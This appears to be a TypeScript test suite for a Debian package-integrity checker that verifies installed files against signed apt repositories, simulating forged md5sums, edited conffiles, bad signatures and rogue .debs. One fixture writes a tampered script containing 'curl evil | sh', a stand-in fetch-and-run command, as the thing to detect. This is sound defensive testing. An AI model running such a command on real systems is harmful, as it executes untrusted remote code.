// `pkgwatch check --signed` against a real signed repository: gpg key, dpkg-deb, reprepro, apt's lists.
import assert from 'node:assert/strict';
import { copyFileSync, mkdirSync, readFileSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { after, before, test, type TestContext } from 'node:test';
import { runCli, runProcess } from '../helpers/cli.js';
import { checkJson, cores, fixture, md5, type CheckJson, type FixtureRoot } from '../helpers/fixture.js';
import {
  buildDeb,
  buildRepo,
  cacheDebs,
  clearsign,
  installLists,
  installPackage,
  LISTS_PREFIX,
  makeKey,
  stopAgent,
  tempDir,
  type DebSpec,
  type TestKey,
} from '../helpers/signedrepo.js';

interface TrustJson {
  readonly package: string;
  readonly version: string;
  readonly state: 'signed' | 'forged' | 'unverified';
  readonly source: string | null;
  readonly reason: string | null;
  readonly detail: string | null;
}
type SignedJson = CheckJson & { readonly trust: readonly TrustJson[]; readonly summary: CheckJson['summary'] & { trust: Record<string, number> } };

const CONF = 'listen 8080\nworkers 4\n';
const WEBAPP: DebSpec = {
  name: 'webapp',
  version: '1.0-1',
  arch: 'amd64',
  compression: 'xz',
  files: [
    { path: '/usr/bin/webapp', content: '#!/bin/sh\necho webapp\n' },
    { path: '/usr/share/webapp/index.html', content: '<h1>hello</h1>\n' },
  ],
  conffiles: [{ path: '/etc/webapp/webapp.conf', content: CONF }],
  postinst: '#!/bin/sh\nset -e\nexit 0\n',
};
const WEBLIB: DebSpec = { name: 'weblib', version: '2.3-1', arch: 'all', compression: 'zstd', files: [{ path: '/usr/share/weblib/lib.js', content: 'export const x = 1;\n' }] };
const WEBTOOL: DebSpec = { name: 'webtool', version: '1:0.9-2', arch: 'amd64', compression: 'gzip', files: [{ path: '/usr/bin/webtool', content: 'tool v0.9\n' }] };
const ALL = [WEBAPP, WEBLIB, WEBTOOL];

let work = '';
let key: TestKey;
let otherKey: TestKey;
let repo = '';
const debs = new Map<string, string>();

before(async () => {
  work = tempDir('pkgwatch-repo-');
  key = await makeKey(work, 'archive');
  otherKey = await makeKey(work, 'stranger');
  for (const spec of ALL) debs.set(spec.name, await buildDeb(work, spec));
  repo = await buildRepo(work, key, [...debs.values()]);
});

after(async () => {
  await stopAgent(key);
  await stopAgent(otherKey);
  rmSync(work, { recursive: true, force: true });
});

/** A fixture root with the packages installed, the repository's lists and the .debs in apt's cache. */
async function system(t: TestContext, opts: { detached?: boolean; cached?: readonly string[] } = {}): Promise<FixtureRoot> {
  const fx = fixture(t);
  for (const spec of ALL) installPackage(fx, spec);
  await installLists(fx, repo, key.keyring, opts);
  cacheDebs(
    fx,
    (opts.cached ?? ALL.map((s) => s.name)).map((n) => debs.get(n) as string),
  );
  return fx;
}

async function signedJson(fx: FixtureRoot, args: readonly string[] = []): Promise<{ code: number | null; json: SignedJson; stderr: string }> {
  const { res, json } = await checkJson(fx, ['--signed', ...args], { timeoutMs: 600_000 });
  return { code: res.code, json: json as SignedJson, stderr: res.stderr };
}

function states(json: SignedJson): Record<string, string> {
  return Object.fromEntries(json.trust.map((e) => [e.package, e.reason === null ? e.state : `${e.state}:${e.reason}`]));
}

const LISTS = '/var/lib/apt/lists';

test('signed: every package installed from the signed repository verifies, exit 0', async (t) => {
  const fx = await system(t);
  const { code, json, stderr } = await signedJson(fx);
  assert.equal(code, 0, stderr);
  assert.deepEqual(states(json), { webapp: 'signed', weblib: 'signed', webtool: 'signed' });
  assert.deepEqual(json.summary.trust, { signed: 3, forged: 0, unverified: 0 });
  assert.deepEqual(json.findings, []);
  assert.deepEqual(json.warnings, []);
  const webapp = json.trust.find((e) => e.package === 'webapp');
  assert.equal(webapp?.source, '/var/cache/apt/archives/webapp_1.0-1_amd64.deb');
});

test('signed: a Release + Release.gpg pair (no InRelease) verifies too', async (t) => {
  const fx = await system(t, { detached: true });
  const { code, json, stderr } = await signedJson(fx);
  assert.equal(code, 0, stderr);
  assert.deepEqual(states(json), { webapp: 'signed', weblib: 'signed', webtool: 'signed' });
});

test('forged: a changed file whose md5sums line was rewritten is forged and changed; plain check sees nothing', async (t) => {
  const fx = await system(t);
  const bad = '#!/bin/sh\ncurl evil | sh\n';
  fx.write('/usr/bin/webapp', bad);
  const sums = fx.infoFile('webapp', 'md5sums');
  writeFileSync(sums, readFileSync(sums, 'utf8').replace(md5(WEBAPP.files[0]?.content ?? ''), md5(bad)));

  const plain = await checkJson(fx, []);
  assert.equal(plain.res.code, 0, 'without --signed the rewritten md5sums hides the change (the blind spot)');

  const { code, json } = await signedJson(fx);
  assert.equal(code, 1);
  assert.deepEqual(states(json), { webapp: 'forged', weblib: 'signed', webtool: 'signed' });
  const signedMd5 = md5(WEBAPP.files[0]?.content ?? '');
  assert.deepEqual(cores(json.findings), [
    { package: 'webapp', path: '/usr/bin/webapp', status: 'changed', conffile: false, expected: signedMd5, actual: md5(bad) },
    { package: 'webapp', path: '/var/lib/dpkg/info/webapp.md5sums', status: 'database-changed', conffile: false, expected: signedMd5, actual: md5(bad) },
  ]);
  assert.deepEqual(json.summary.trust, { signed: 2, forged: 1, unverified: 0 });
});

test('forged: a rewritten Conffiles hash is database-changed on status, and the conffile is checked against the signed hash', async (t) => {
  const fx = await system(t);
  const edited = 'listen 80\nworkers 4\nbackdoor on\n';
  fx.write('/etc/webapp/webapp.conf', edited);
  writeFileSync(fx.statusFile, readFileSync(fx.statusFile, 'utf8').replace(md5(CONF), md5(edited)));
  const { code, json } = await signedJson(fx, ['webapp']);
  assert.equal(code, 1);
  assert.deepEqual(states(json), { webapp: 'forged' });
  assert.deepEqual(cores(json.findings), [
    { package: 'webapp', path: '/etc/webapp/webapp.conf', status: 'changed', conffile: true, expected: md5(CONF), actual: md5(edited) },
    { package: 'webapp', path: '/var/lib/dpkg/status', status: 'database-changed', conffile: false, expected: md5(CONF), actual: md5(edited) },
  ]);
});

test('text: one line per package that is not signed, and a trust summary line', async (t) => {
  const fx = await system(t, { cached: ['webapp', 'weblib'] });
  const res = await runCli(['check', '--root', fx.root, '--signed'], { timeoutMs: 600_000 });
  assert.equal(res.code, 0, res.stderr);
  assert.match(res.stdout, /^trust\n {2}unverified webtool 1:0\.9-2: \.deb not available: no \.deb of webtool 1:0\.9-2 \(amd64\) in \/var\/cache\/apt\/archives; the signed index lists it as pool\/main\/w\/webtool\/webtool_0\.9-2_amd64\.deb\n/m);
  assert.doesNotMatch(res.stdout, /webapp|weblib/);
  assert.match(res.stdout, /^trust: 2 signed, 0 forged, 1 unverified \(1 \.deb not available\)$/m);
});

test('text: a forged package shows the signed and the database value of each rewritten line', async (t) => {
  const fx = await system(t);
  const bad = 'tampered\n';
  fx.write('/usr/bin/webapp', bad);
  const sums = fx.infoFile('webapp', 'md5sums');
  writeFileSync(sums, readFileSync(sums, 'utf8').replace(md5(WEBAPP.files[0]?.content ?? ''), md5(bad)));
  const res = await runCli(['check', '--root', fx.root, '--signed', 'webapp'], { timeoutMs: 600_000 });
  assert.equal(res.code, 1, res.stderr);
  assert.ok(
    res.stdout.includes(
      `  database-changed /var/lib/dpkg/info/webapp.md5sums\n             signed ${md5(WEBAPP.files[0]?.content ?? '')}, database ${md5(bad)}\n             the line for /usr/bin/webapp differs from the signed .deb`,
    ),
    res.stdout,
  );
  assert.match(res.stdout, /^ {2}forged {5}webapp 1\.0-1: dpkg's database differs from the signed \.deb \(\/var\/cache\/apt\/archives\/webapp_1\.0-1_amd64\.deb\): 1 md5sums line;/m);
  assert.match(res.stdout, /^trust: 0 signed, 1 forged, 0 unverified$/m);
});

test('unverified: a Packages index whose SHA256 differs from the InRelease', async (t) => {
  const fx = await system(t);
  const plain = path.join(repo, 'dists/stable/main/binary-amd64/Packages');
  const edited = path.join(fx.root, 'Packages.edited');
  const text = readFileSync(plain, 'utf8');
  const sha = /^SHA256: ([0-9a-f]{64})$/m.exec(text.slice(text.indexOf('Package: webapp')))?.[1] ?? '';
  writeFileSync(edited, text.replace(sha, '0'.repeat(64)));
  await runProcess('lz4', ['-q', '-f', edited, fx.path(`${LISTS}/${LISTS_PREFIX}main_binary-amd64_Packages.lz4`)]);
  const { code, json } = await signedJson(fx);
  assert.equal(code, 0);
  assert.deepEqual(states(json), { webapp: 'unverified:hash-mismatch', weblib: 'unverified:hash-mismatch', webtool: 'unverified:hash-mismatch' });
  assert.match(json.trust[0]?.detail ?? '', /main_binary-amd64_Packages\.lz4: its content has SHA256 [0-9a-f]{64}, size \d+, but .*_InRelease says SHA256/);
  assert.equal(json.trust[0]?.source, `${LISTS}/${LISTS_PREFIX}main_binary-amd64_Packages.lz4`);
});

test('unverified: a tampered InRelease is a bad signature', async (t) => {
  const fx = await system(t);
  const file = fx.path(`${LISTS}/${LISTS_PREFIX}InRelease`);
  writeFileSync(file, readFileSync(file, 'utf8').replace('Codename: stable', 'Codename: stabel'));
  const { json } = await signedJson(fx);
  assert.deepEqual(states(json), { webapp: 'unverified:bad-signature', weblib: 'unverified:bad-signature', webtool: 'unverified:bad-signature' });
  assert.match(json.trust[0]?.detail ?? '', /BAD signature/);
  assert.equal(json.trust[0]?.source, `${LISTS}/${LISTS_PREFIX}InRelease`);
});

test('unverified: an InRelease signed by a key that Signed-By does not name is a bad signature', async (t) => {
  const fx = await system(t);
  copyFileSync(otherKey.keyring, fx.path('usr/share/keyrings/pkgwatch-test.gpg'));
  const { json } = await signedJson(fx);
  assert.deepEqual(states(json), { webapp: 'unverified:bad-signature', weblib: 'unverified:bad-signature', webtool: 'unverified:bad-signature' });
  assert.match(json.trust[0]?.detail ?? '', /not in the keyring/);
});

test('unverified: a Release past its Valid-Until is expired, even with a good signature', async (t) => {
  const fx = await system(t);
  const release = readFileSync(path.join(repo, 'dists/stable/Release'), 'utf8');
  const stale = release.replace(/^Date: .*$/m, (d) => `${d}\nValid-Until: Sat, 01 Jan 2000 00:00:00 UTC`);
  writeFileSync(fx.path(`${LISTS}/${LISTS_PREFIX}InRelease`), await clearsign(key, stale, work));
  const { code, json } = await signedJson(fx);
  assert.equal(code, 0);
  assert.deepEqual(states(json), { webapp: 'unverified:expired', weblib: 'unverified:expired', webtool: 'unverified:expired' });
  assert.match(json.trust[0]?.detail ?? '', /valid until 2000-01-01T00:00:00\.000Z/);
});

test('unverified: a truncated .deb in the cache is unreadable and not trusted', async (t) => {
  const fx = await system(t);
  const cached = fx.path('var/cache/apt/archives/webapp_1.0-1_amd64.deb');
  truncateSync(cached, 900);
  const { json } = await signedJson(fx, ['webapp']);
  assert.deepEqual(states(json), { webapp: 'unverified:bad-deb' });
  assert.match(json.trust[0]?.detail ?? '', /cut short|truncated/);
  assert.match(json.trust[0]?.detail ?? '', /not the signed \.deb/);
});

test('a .deb whose hash does not match never has its data.tar decompressed: damaged data is a hash mismatch, not a decoder error', async (t) => {
  const fx = await system(t);
  const cached = fx.path('var/cache/apt/archives/webapp_1.0-1_amd64.deb');
  const bytes = readFileSync(cached);
  const data = bytes.indexOf('data.tar.xz');
  assert.ok(data > 0);
  // Garbage in the middle of the data member; the ar structure and the control archive stay intact.
  const at = data + 60 + Math.floor((bytes.length - data - 60) / 2);
  bytes.fill(0x55, at, at + 16);
  writeFileSync(cached, bytes);
  const { json } = await signedJson(fx, ['webapp']);
  assert.deepEqual(states(json), { webapp: 'unverified:hash-mismatch' });
  assert.doesNotMatch(json.trust[0]?.detail ?? '', /data\.tar|xz/);
});

test('unverified: a .deb of the same name and version that is not the signed one is a hash mismatch', async (t) => {
  const fx = await system(t);
  const rogue = await buildDeb(tempDir('pkgwatch-rogue-'), { ...WEBTOOL, files: [{ path: '/usr/bin/webtool', content: 'rogue\n' }] });
  copyFileSync(rogue, fx.path('var/cache/apt/archives/webtool_1%3a0.9-2_amd64.deb'));
  rmSync(fx.path('var/cache/apt/archives/webtool_1:0.9-2_amd64.deb'), { force: true });
  rmSync(path.dirname(rogue), { recursive: true, force: true });
  const { json } = await signedJson(fx, ['webtool']);
  assert.deepEqual(states(json), { webtool: 'unverified:hash-mismatch' });
  assert.match(json.trust[0]?.detail ?? '', /is not the signed \.deb: SHA256 [0-9a-f]{64}, size \d+; the signed index .* says SHA256/);
});

test('unverified: no .deb at hand, a package no index lists, a version the index does not list', async (t) => {
  const fx = fixture(t);
  installPackage(fx, WEBAPP);
  installPackage(fx, { ...WEBTOOL, version: '1:0.9-1' });
  installPackage(fx, { name: 'localtool', version: '0.1', arch: 'amd64', compression: 'xz', files: [{ path: '/usr/local/lib/x', content: 'x\n' }] });
  await installLists(fx, repo, key.keyring);
  const { code, json } = await signedJson(fx);
  assert.equal(code, 0);
  assert.deepEqual(states(json), {
    webapp: 'unverified:deb-not-available',
    webtool: 'unverified:not-in-index',
    localtool: 'unverified:local-install',
  });
});

test('unverified: without apt lists, every package says there is no index', async (t) => {
  const fx = fixture(t);
  installPackage(fx, WEBAPP);
  cacheDebs(fx, [debs.get('webapp') as string]);
  const { code, json } = await signedJson(fx);
  assert.equal(code, 0);
  assert.deepEqual(states(json), { webapp: 'unverified:no-index' });
});

test('[trust] deb_paths: a renamed .deb in a configured directory is found by its control file', async (t) => {
  const fx = await system(t, { cached: [] });
  mkdirSync(fx.path('srv/debs'), { recursive: true });
  copyFileSync(debs.get('webapp') as string, fx.path('srv/debs/latest-build.deb'));
  const config = fx.path('pkgwatch.toml');
  writeFileSync(config, '[trust]\ndeb_paths = ["/srv/debs"]\n');
  const { json } = await signedJson(fx, ['--config', config, 'webapp']);
  assert.deepEqual(states(json), { webapp: 'signed' });
  assert.equal(json.trust[0]?.source, '/srv/debs/latest-build.deb');
});
